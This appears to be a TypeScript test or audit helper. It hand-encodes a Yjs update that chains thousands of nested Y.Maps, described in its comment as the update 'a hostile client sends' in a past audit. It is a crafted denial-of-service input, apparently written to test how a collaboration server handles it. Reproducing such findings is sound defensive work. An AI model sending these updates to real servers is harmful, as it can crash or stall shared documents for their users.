import * as encoding from 'lib0/encoding'

const HAS_PARENT_SUB = 0b0010_0000
const CONTENT_TYPE = 7
const Y_MAP = 1

/**
 * A chain of `depth` Y.Maps, each under key `key` of the one before, the
 * first under `key` of root map `root`: the 243 KB update of the audit at
 * 20,000. Written by hand, as a hostile client sends it.
 */
export function deepMaps(client: number, root: string, key: string, depth: number): Uint8Array {
  const e = encoding.createEncoder()
  encoding.writeVarUint(e, 1) // one client
  encoding.writeVarUint(e, depth)
  encoding.writeVarUint(e, client)
  encoding.writeVarUint(e, 0) // first clock
  for (let clock = 0; clock < depth; clock++) {
    encoding.writeUint8(e, CONTENT_TYPE | HAS_PARENT_SUB)
    if (clock === 0) {
      encoding.writeVarUint(e, 1) // parent is a root type, by name
      encoding.writeVarString(e, root)
    } else {
      encoding.writeVarUint(e, 0) // parent is the map before, by id
      encoding.writeVarUint(e, client)
      encoding.writeVarUint(e, clock - 1)
    }
    encoding.writeVarString(e, key)
    encoding.writeVarUint(e, Y_MAP)
  }
  encoding.writeVarUint(e, 0) // empty delete set
  return encoding.toUint8Array(e)
}
